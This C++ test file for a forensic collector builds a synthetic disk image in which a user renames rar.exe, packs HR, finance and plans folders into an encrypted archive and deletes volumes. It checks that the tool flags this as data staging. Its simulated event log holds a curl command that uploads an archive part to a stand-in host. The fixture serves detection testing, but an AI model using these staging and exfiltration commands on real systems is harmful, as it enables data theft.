// The whole story of data that were packed and taken away, on an NTFS volume with hive, prefetch,
// journal and log, through the program: one finding tells it. docs/staging_case.md shows that
// finding; HOZEN_REGENERATE=1 writes it anew.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "collector/base/bytes.h"
#include "collector/engine/bundle_reader.h"
#include "tests/builders/evtx_builder.h"
#include "tests/builders/fake_windows.h"
#include "tests/builders/file_text.h"
#include "tests/builders/json.h"
#include "tests/builders/ntfs_builder.h"
#include "tests/builders/ntfs_side_builder.h"
#include "tests/builders/prefetch_builder.h"
#include "tests/builders/program.h"
#include "tests/builders/rar_builder.h"
#include "tests/builders/temp_folder.h"

namespace hozen {
namespace {

using builders::NtfsBuilder;
using ntfs::FileReference;
using test::Json;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

constexpr std::size_t kVolumeBytes = 102'400, kLastBytes = 40'960;

/// 2022-06-17T10:13:20Z and so many seconds.
FileTime after(std::uint64_t seconds) {
  return FileTime{133'000'000'000'000'000 + seconds * kTicksPerSecond};
}

std::string chars_of(const std::vector<std::byte>& bytes) {
  return std::string{Bytes{bytes}.chars()};
}

/// A user renames rar.exe, packs three folders with -hp and -v, deletes two volumes, uploads one.
class PackingImage : public testing::Test {
 protected:
  void SetUp() override {
    if (test::program_path().empty()) GTEST_SKIP() << "HOZEN_PROGRAM names no program";
    windows();
    root_ = disk_.root();
    add_tree(folder_.path() / "tree", root_);
    const FileReference perflogs = disk_.folder(root_, "PerfLogs");
    program_ = disk_.file(perflogs, "svch.exe", "MZ a harmless file");
    for (int number = 1; number <= 4; ++number) volumes_.push_back(volume(perflogs, number));
    journal(perflogs);
    disk_.remove(volumes_[0]).remove(volumes_[1]);
    const auto bytes = disk_.volume();
    folder_.write("disk.dd", Bytes{bytes}.chars());
  }

  /// Hives with what Explorer knows of the program, its prefetch file, the log of processes.
  void windows() {
    fake::FakeWindows windows;
    windows.user("eve");
    windows.value("HKU\\eve_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache",
                  "C:\\PerfLogs\\svch.exe.FriendlyAppName", fake::sz("Command line RAR"));
    windows.file("C:\\HR\\salaries.xls", "salaries");
    windows.file("C:\\Plans\\plan.jtd", "plan");
    folder_.make_folder("tree");
    ASSERT_TRUE(windows.write_to(folder_.text() + "/tree"));
    builders::PrefetchBuilder prefetch{30};
    prefetch.program("\\VOLUME{01d5}\\PERFLOGS\\SVCH.EXE", "SVCH.EXE")
        .file("\\VOLUME{01d5}\\PERFLOGS\\1.PART1.RAR")
        .run(after(1));
    folder_.write("tree/Windows/Prefetch/SVCH.EXE-11111111.pf", chars_of(prefetch.bytes()));
    builders::EvtxBuilder log;
    process(log, 0, "C:\\PerfLogs\\svch.exe",
            "svch.exe a -r -hpS3cr#t -v100k -m5 C:\\PerfLogs\\1.rar C:\\HR \\\\srv\\c$\\Finance "
            "C:\\Plans");
    process(log, 3600, "C:\\Windows\\System32\\curl.exe",
            "curl -k -T C:\\PerfLogs\\1.part3.rar https://h.example");
    folder_.write("tree/Windows/System32/winevt/Logs/Security.evtx", chars_of(log.bytes()));
  }
  static void process(builders::EvtxBuilder& log, std::uint64_t seconds, const std::string& image,
                      const std::string& line) {
    builders::EvtxEvent event;
    event.channel = "Security";
    event.event_id = 4688;
    event.time = after(seconds);
    for (const auto& [name, text] :
         std::vector<std::pair<std::string, std::string>>{{"SubjectUserName", "eve"},
                                                          {"SubjectDomainName", "PC"},
                                                          {"NewProcessName", image},
                                                          {"CommandLine", line}})
      event.data.emplace_back(name, builders::evtx_text(text));
    log.event(event);
  }

  void add_tree(const fs::path& from, FileReference to) {
    std::vector<fs::path> names;
    for (const auto& entry : fs::directory_iterator{from}) names.push_back(entry.path());
    std::sort(names.begin(), names.end());
    for (const fs::path& name : names) {
      const std::string text = name.filename().string();
      if (fs::is_directory(name))
        add_tree(name, disk_.folder(to, text));
      else
        disk_.file(to, text, test::file_text(name));
    }
  }
  FileReference volume(FileReference parent, int number) {
    builders::RarBuilder rar{builders::RarBuilder::Generation::rar5};
    rar.volume(static_cast<std::uint64_t>(number - 1), number != 4).encrypt_headers();
    std::string content = chars_of(rar.bytes());
    content.resize(number == 4 ? kLastBytes : kVolumeBytes, 'x');
    const FileTime made = after(static_cast<std::uint64_t>(number) * 10);
    const FileTime written{made.ticks + 9 * kTicksPerSecond};
    builders::NtfsRecordBuilder record;
    record.standard(Times{made, written, written, made})
        .name(parent, "1.part" + std::to_string(number) + ".rar", ntfs::NameSpace::win32_and_dos,
              made);
    const FileReference file = disk_.add(std::move(record));
    disk_.stream(file, "", content);
    return file;
  }
  void journal(FileReference perflogs) {
    builders::UsnBuilder usn;
    const auto add = [&](std::u16string name, FileReference file, FileTime time,
                         std::uint32_t reason) {
      builders::UsnBuilder::Spec spec;
      spec.name = std::move(name);
      spec.file = builders::ntfs_reference(file.record, file.sequence);
      spec.parent = builders::ntfs_reference(perflogs.record, perflogs.sequence);
      spec.time = time;
      spec.reason = reason;
      usn.v2(spec);
    };
    constexpr std::uint32_t kExtend = 0x2, kCreate = 0x100, kDelete = 0x200, kOldName = 0x1000,
                            kNewName = 0x2000, kClose = 0x8000'0000;
    const FileTime before{after(0).ticks - 600 * kTicksPerSecond};
    add(u"rar.exe", program_, before, kOldName);
    add(u"svch.exe", program_, before, kNewName);
    add(u"svch.exe", program_, before, kNewName | kClose);
    for (std::size_t i = 0; i < volumes_.size(); ++i) {
      const std::u16string name =
          u"1.part" + std::u16string(1, static_cast<char16_t>(u'1' + i)) + u".rar";
      add(name, volumes_[i], after((i + 1) * 10), kCreate);
      add(name, volumes_[i], after((i + 1) * 10 + 9), kCreate | kExtend | kClose);
    }
    add(u"1.part1.rar", volumes_[0], after(7201), kDelete | kClose);
    add(u"1.part2.rar", volumes_[1], after(7202), kDelete | kClose);
    const FileReference file = disk_.file(FileReference{11, 11}, "$UsnJrnl", "");
    disk_.stream(file, "$J", chars_of(usn.bytes()));
  }

  std::vector<Json> findings(const char* profile) {
    const auto ended =
        test::run_program({"collect", "--image", "disk.dd", "--profile", profile, "--output",
                           "out.zip", "--quiet", "--case", "1", "--operator", "x"},
                          folder_.text());
    EXPECT_LE(ended.exit_code, 1) << ended.error;
    const std::string text = test::file_text(folder_.path() / "out.zip");
    const auto bytes = std::as_bytes(std::span{text});
    MemorySource source{{bytes.begin(), bytes.end()}};
    const auto reader = BundleReader::open(source);
    std::vector<Json> found;
    if (!reader) return ADD_FAILURE() << reader.error().what, found;
    EXPECT_TRUE(reader->each_line("findings", [&](std::string_view line) {
      found.push_back(test::parse_json(line));
      return Result<void>{};
    }));
    return found;
  }

  TempFolder folder_;
  NtfsBuilder disk_{2048};
  FileReference root_{}, program_{};
  std::vector<FileReference> volumes_;
};

std::string story_of(const Json& finding) {
  std::string story;
  for (const Json& why : finding.at("why")) story += why.at("fact").get<std::string>() + "\n";
  return story;
}

/// The finding as a page of the documentation.
std::string page_of(const Json& finding) {
  std::string page =
      "# A case of staging, as it is told\n\n"
      "Written by `tests/cli/packing_image_test.cpp` (HOZEN_REGENERATE=1), which builds the case: "
      "on an NTFS volume a "
      "user\nrenames `rar.exe`, packs three folders with `-hp` and `-v`, deletes two of the four "
      "volumes and uploads "
      "one. Hive,\nprefetch file, change journal, event log and the volumes that are left are "
      "read; one finding tells it "
      "all.\n\n";
  page += "**" + finding.at("severity").get<std::string>() + "** (" +
          std::to_string(finding.at("score").get<int>()) +
          "): " + finding.at("title").get<std::string>() + "  \n`" +
          finding.at("subject").get<std::string>() +
          "`\n\n| weight | what the evidence says |\n|---|---|\n";
  for (const Json& why : finding.at("why"))
    page += "| " + std::to_string(why.at("weight").get<int>()) + " | " +
            why.at("fact").get<std::string>() + " |\n";
  for (const auto& [key, heading] : {std::pair{"not_checked", "Not checked"},
                                     {"benign", "Innocent explanations"},
                                     {"next", "Next"}}) {
    page += std::string{"\n"} + heading + ":\n\n";
    for (const Json& text : finding.at(key)) page += "- " + text.get<std::string>() + "\n";
  }
  return page;
}

TEST_F(PackingImage, OneFindingTellsTheWholeStory) {
  std::vector<Json> packing;
  for (const Json& finding : findings("full"))
    if (finding.at("severity") != "low" && finding.at("severity") != "info")
      packing.push_back(finding);
  ASSERT_EQ(packing.size(), 1u) << [&] {
    std::string all;
    for (const Json& one : packing) all += test::dumped(one, 1) + "\n";
    return all;
  }();
  const Json& finding = packing.front();
  EXPECT_EQ(finding.at("rule"), "winrar.staging");
  EXPECT_EQ(finding.at("severity"), "critical");
  const std::string story = story_of(finding);
  EXPECT_THAT(
      story,
      HasSubstr("PC\\eve gave the command to pack C:\\HR, \\\\srv\\c$\\Finance, C:\\Plans into "
                "C:\\PerfLogs\\1.rar at " +
                after(0).iso8601()));
  EXPECT_THAT(story, HasSubstr("C:\\PerfLogs\\svch.exe is RAR by its version resource"));
  EXPECT_THAT(story, HasSubstr("C:\\PerfLogs\\rar.exe was renamed to svch.exe at "));
  EXPECT_THAT(story, HasSubstr("-hp[password left out] -v100k"));
  EXPECT_THAT(story, HasSubstr("SVCH.EXE ran at " + after(1).iso8601() + " (prefetch"));
  EXPECT_THAT(story, HasSubstr("encrypts the names in the archive"));
  EXPECT_THAT(story, HasSubstr("volumes of 102400 bytes"));
  EXPECT_THAT(story, HasSubstr("1.part3.rar (102400 bytes), 1.part4.rar (40960 bytes), 143360 "
                               "bytes in all"));
  EXPECT_THAT(story, HasSubstr("1.part1.rar, made at " + after(10).iso8601() + ", deleted at " +
                               after(7201).iso8601()));
  EXPECT_THAT(story, HasSubstr("1.part2.rar, made at " + after(20).iso8601() + ", deleted at " +
                               after(7202).iso8601()));
  EXPECT_THAT(story, HasSubstr("sends it away with curl to https://h.example at " +
                               after(3600).iso8601() + " by PC\\eve"));
  EXPECT_THAT(story, HasSubstr("The evidence of it is of " + after(0).iso8601() + " to " +
                               after(49).iso8601() + "."));
  EXPECT_THAT(test::dumped(finding), Not(HasSubstr("S3cr#t")));
  for (const char* technique : {"T1560.001", "T1074.001", "T1036.003", "T1070.004", "T1041"})
    EXPECT_THAT(finding.at("attack").get<std::vector<std::string>>(), Contains(technique));

  const char* source = std::getenv("HOZEN_SOURCE_DIR");
  const fs::path page =
      (source != nullptr ? fs::path{source} : fs::current_path()) / "docs/staging_case.md";
  if (std::getenv("HOZEN_REGENERATE") != nullptr)
    std::ofstream{page, std::ios::binary} << page_of(finding);
  EXPECT_EQ(test::file_text(page), page_of(finding));
}

}  // namespace
}  // namespace hozen
